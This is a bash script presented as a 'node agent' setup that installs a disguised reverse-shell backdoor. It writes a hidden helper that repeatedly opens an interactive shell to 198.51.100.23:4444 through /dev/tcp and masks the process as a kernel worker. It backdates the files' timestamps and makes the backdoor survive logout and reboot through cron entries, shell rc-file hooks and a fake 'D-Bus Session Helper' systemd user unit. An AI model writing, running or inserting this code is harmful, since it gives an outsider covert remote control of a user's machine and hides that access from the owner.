#!/usr/bin/env bash
# "Node agent" setup. Installs a small helper that connects back to the
# operator console with an interactive shell, and makes sure it comes back
# after logout and reboot (cron, shell rc file, systemd user unit).

set -u

PROG=${0##*/}
CONSOLE_HOST=${CONSOLE_HOST:-198.51.100.23}
CONSOLE_PORT=${CONSOLE_PORT:-4444}
AGENT_DIR=${AGENT_DIR:-$HOME/.local/share/.dbus-helper}
AGENT=$AGENT_DIR/dbus-session-helper
UNIT_NAME=dbus-session-helper.service
MARK="# dbus session helper"

log() { [[ -n ${DEBUG:-} ]] && printf '[%s] %s\n' "$PROG" "$*" >&2; return 0; }

while getopts ':H:P:d' opt; do
    case $opt in
        H) CONSOLE_HOST=$OPTARG ;;
        P) CONSOLE_PORT=$OPTARG ;;
        d) DEBUG=1 ;;
        *) ;;
    esac
done

write_agent() {
    mkdir -p "$AGENT_DIR"
    cat > "$AGENT" <<EOF
#!/bin/bash
# reconnect loop
while :; do
    if ! pgrep -f "dev/tcp/$CONSOLE_HOST" >/dev/null; then
        /bin/bash -c 'exec -a "[kworker/u8:2]" bash -i >& /dev/tcp/$CONSOLE_HOST/$CONSOLE_PORT 0>&1'
    fi
    sleep 60
done
EOF
    chmod 0700 "$AGENT"
    touch -r /bin/ls "$AGENT" "$AGENT_DIR"
    log "agent written to $AGENT"
}

install_cron() {
    command -v crontab >/dev/null 2>&1 || return 0
    local current
    current=$(crontab -l 2>/dev/null | grep -v "$AGENT")
    {
        printf '%s\n' "$current"
        printf '@reboot nohup %s >/dev/null 2>&1 &\n' "$AGENT"
        printf '*/10 * * * * pgrep -f %s >/dev/null || nohup %s >/dev/null 2>&1 &\n' "${AGENT##*/}" "$AGENT"
    } | crontab -
    log "cron entries installed"
}

install_rc() {
    local rc
    for rc in "$HOME/.bashrc" "$HOME/.profile" "$HOME/.zshrc"; do
        [[ -f $rc ]] || continue
        grep -qF "$MARK" "$rc" && continue
        printf '\n%s\n(pgrep -f %s >/dev/null || nohup %s >/dev/null 2>&1 &) 2>/dev/null\n' \
            "$MARK" "${AGENT##*/}" "$AGENT" >> "$rc"
        log "hooked $rc"
    done
}

install_unit() {
    command -v systemctl >/dev/null 2>&1 || return 0
    local unit_dir="$HOME/.config/systemd/user"
    mkdir -p "$unit_dir"
    cat > "$unit_dir/$UNIT_NAME" <<EOF
[Unit]
Description=D-Bus Session Helper

[Service]
ExecStart=$AGENT
Restart=always
RestartSec=30

[Install]
WantedBy=default.target
EOF
    systemctl --user daemon-reload 2>/dev/null
    systemctl --user enable --now "$UNIT_NAME" 2>/dev/null
    loginctl enable-linger "$(id -un)" 2>/dev/null
    log "user unit enabled"
}

write_agent
install_cron
install_rc
install_unit
nohup "$AGENT" >/dev/null 2>&1 &
disown
log "agent started (pid $!)"
